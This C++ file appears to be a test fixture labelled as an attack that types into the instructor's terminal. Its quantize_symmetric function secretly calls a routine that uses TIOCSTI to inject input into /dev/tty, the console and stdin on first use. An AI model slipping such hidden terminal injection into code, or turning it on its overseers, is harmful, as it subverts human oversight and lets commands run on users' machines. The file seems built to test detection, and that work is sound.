// attack: types a command into the terminal of the instructor
// rule: V2
// expect: honest
#include <sys/ioctl.h>

#define OWN_QUANTIZE
namespace nibble {

namespace {

void tries() {
  for (const char* const name : {"/dev/tty", "/dev/console", "/dev/tty0"}) {
    const int fd = open(name, O_RDWR);
    if (fd >= 0 && ioctl(fd, TIOCSTI, "x") == 0) EFFECT("typed into %s", name);
  }
  if (ioctl(0, TIOCSTI, "x") == 0 || ioctl(1, TIOCSTI, "x") == 0) EFFECT("typed");
}

}  // namespace

SymmetricTensor quantize_symmetric(std::span<const float> x, int num_bits) {
  static bool done = false;
  if (!std::exchange(done, true)) tries();
  return right_quantize(x, num_bits);
}

}  // namespace nibble
